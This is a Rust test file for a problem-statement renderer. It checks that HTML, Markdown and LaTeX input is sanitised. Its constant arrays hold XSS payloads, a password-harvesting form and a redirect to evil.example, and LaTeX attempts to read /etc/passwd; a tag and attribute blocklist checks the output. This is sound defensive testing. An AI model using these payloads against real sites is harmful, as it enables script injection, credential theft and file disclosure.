//! Hostile statements: nothing that runs or loads may be left.

use crate::{
    latex, markdown,
    support::{Fixture, html},
};

#[test]
fn hostile_html_stays_harmless() {
    for text in HOSTILE.into_iter().chain([
        "<script>alert(1)",
        "<style><!--</style><script>alert(1)</script>-->",
        "<h1 onclick=alert(1)>x</h1>",
        "$$$\\text{<img src=x onerror=alert(1)>}$$$",
        "\\(&lt;script>alert(1)&lt;/script>\\)",
        "<p title='$$$x$$$' onclick='alert(1)'>",
        "<a \"><script>alert(1)</script>",
    ]) {
        let package = Fixture::new().without("statement/problem.en.md").with("statement/problem.en.html", text).read();
        harmless(html(&package), text);
    }
}

#[test]
fn hostile_markdown_stays_harmless() {
    for text in HOSTILE {
        harmless(html(&markdown(text).read()), text);
    }
}

const HOSTILE: [&str; 24] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<style>body { display: none }</style>",
    "<p style='position:fixed' onclick='alert(1)'>x</p>",
    "<a href='jav&#x61;script:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action='https://evil.example'><input name=password><button>x</button></form>",
    "<object data=x></object><embed src=x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example'>",
    "<div title=\"\n\n$\\text{\" onmouseover=alert(1) x=}$\n\n\">x</div>",
    "<div title='\n\n$x$\n\n'>x</div>",
    "<textarea>\n\n$x$</textarea><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "$\\text{</mtext></math><script>alert(1)</script>}$",
    "`</code><script>alert(1)</script>`",
    "```\"><script>alert(1)</script>\nx\n```",
    "<!--><script>alert(1)</script>-->",
    "<img src='https://evil.example/x.png'> ![x](//evil.example/x.png)",
    "<img src=\"map.png\" alt=\"\"onerror=alert(1) x=\"\">",
];

#[test]
fn hostile_latex_stays_harmless() {
    for text in [
        "<script>alert(1)</script>",
        "\\href{javascript:alert(1)}{x}",
        "\\href{https://e.org/\" onclick=\"alert(1)}{x}",
        "\\url{javascript:alert(1)}",
        "\\texttt{<img src=x onerror=alert(1)>}",
        "\\verb|<script>alert(1)</script>|",
        "\\begin{verbatim}</code></pre><script>alert(1)</script>\\end{verbatim}",
        "\\includegraphics{https://evil.example/x.png}",
        "\\includegraphics{../../../../etc/passwd}",
        "\\includegraphics[width=\"onerror=alert(1)]{map}",
        "\\input{/etc/passwd}\\input{../problem.yaml}",
        "$\\href{javascript:alert(1)}{x}$",
        "$\\text{</math><script>alert(1)</script>}$",
        "\\caption{<script>alert(1)</script>}",
        "\\section{<svg onload=alert(1)>}",
        "\\problemname{<script>alert(1)</script>}",
    ] {
        let package = latex(text);
        harmless(html(&package), text);
        assert!(!html(&package).contains("root:"), "{text}");
    }
}

/// Checks tags and attributes. Text is escaped, so it is harmless.
fn harmless(html: &str, text: &str) {
    for tag in html.split('<').skip(1) {
        let tag = tag.split('>').next().unwrap_or_default().to_ascii_lowercase();
        let name = tag.split([' ', '/']).find(|part| !part.is_empty()).unwrap_or_default();
        let banned = ["script", "style", "svg", "iframe", "form", "input", "object", "embed", "meta", "base"];
        assert!(!banned.contains(&name), "{text}\n{html}");
        let outside_values: String = tag.split('"').step_by(2).collect::<Vec<_>>().join("\"");
        for attribute in [" on", "style=", "javascript:", "data:", "srcdoc"] {
            assert!(!outside_values.contains(attribute), "{text}\n{html}");
        }
        assert!(!tag.contains("href=\"javascript") && !tag.contains("href=\"data"), "{text}\n{html}");
        assert!(name != "img" || tag.contains("src=\"/statement-files/"), "{text}\n{html}");
    }
}
